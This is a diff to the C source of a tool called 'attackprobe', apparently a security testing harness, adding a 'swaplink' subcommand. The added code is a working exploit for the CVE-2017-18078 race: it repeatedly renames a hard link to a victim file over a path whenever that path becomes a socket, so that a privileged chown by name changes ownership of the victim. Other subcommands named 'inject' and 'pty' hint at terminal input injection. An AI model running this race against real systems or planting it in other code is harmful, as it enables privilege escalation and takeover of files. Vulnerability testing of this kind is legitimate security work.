@@ -8,7 +8,12 @@
                                  terminal is a fresh pty; run CMD as a job in its own process
                                  group in the foreground (what job control does), with the pty
                                  as fd 0; after it ends, print the input the "shell" would read
-                                 next (pending=...) and job_exit=N */
+                                 next (pending=...) and job_exit=N
+     attackprobe swaplink DIR NAME VICTIM SECONDS
+                                 the CVE-2017-18078 race against a chown by name: keep a hard
+                                 link to VICTIM in DIR and rename it over DIR/NAME whenever NAME
+                                 is a socket, until SECONDS pass or SIGTERM; prints ready, then
+                                 swaps=N at the end */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
@@ -20,9 +25,11 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/prctl.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <termios.h>
+#include <time.h>
 #include <unistd.h>
 
 static const char* errname(int e) {
@@ -125,11 +132,48 @@ static int pty(char** argv) {
   return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
 }
 
+static volatile sig_atomic_t swap_stop;
+
+static void on_term(int sig) {
+  (void)sig;
+  swap_stop = 1;
+}
+
+static int swaplink(const char* dir, const char* name, const char* victim, int seconds) {
+  char target[4096], spare[4096];
+  snprintf(target, sizeof target, "%s/%s", dir, name);
+  snprintf(spare, sizeof spare, "%s/.swaplink", dir);
+  signal(SIGTERM, on_term);
+  unlink(spare);
+  if (link(victim, spare) != 0) {
+    printf("link=%s\n", errname(errno));
+    return 1;
+  }
+  printf("ready\n");
+  time_t end = time(NULL) + seconds;
+  unsigned long swaps = 0, spins = 0;
+  while (!swap_stop) {
+    if ((++spins & 0x3ff) == 0 && time(NULL) >= end) break;
+    struct stat st;
+    if (lstat(target, &st) != 0 || !S_ISSOCK(st.st_mode)) continue;
+    if (rename(spare, target) == 0) {
+      swaps++;
+      if (link(victim, spare) != 0) break;
+    }
+  }
+  printf("swaps=%lu\n", swaps);
+  return 0;
+}
+
 int main(int argc, char** argv) {
   setvbuf(stdout, NULL, _IONBF, 0);
   if (argc >= 2 && strcmp(argv[1], "regain") == 0) return regain();
   if (argc >= 3 && strcmp(argv[1], "inject") == 0) return inject(argv[2]);
   if (argc >= 3 && strcmp(argv[1], "pty") == 0) return pty(argv + 2);
-  fprintf(stderr, "usage: attackprobe regain | inject TEXT | pty CMD [ARG...]\n");
+  if (argc == 6 && strcmp(argv[1], "swaplink") == 0)
+    return swaplink(argv[2], argv[3], argv[4], atoi(argv[5]));
+  fprintf(stderr,
+          "usage: attackprobe regain | inject TEXT | pty CMD [ARG...] | swaplink DIR NAME VICTIM "
+          "SECONDS\n");
   return 2;
 }
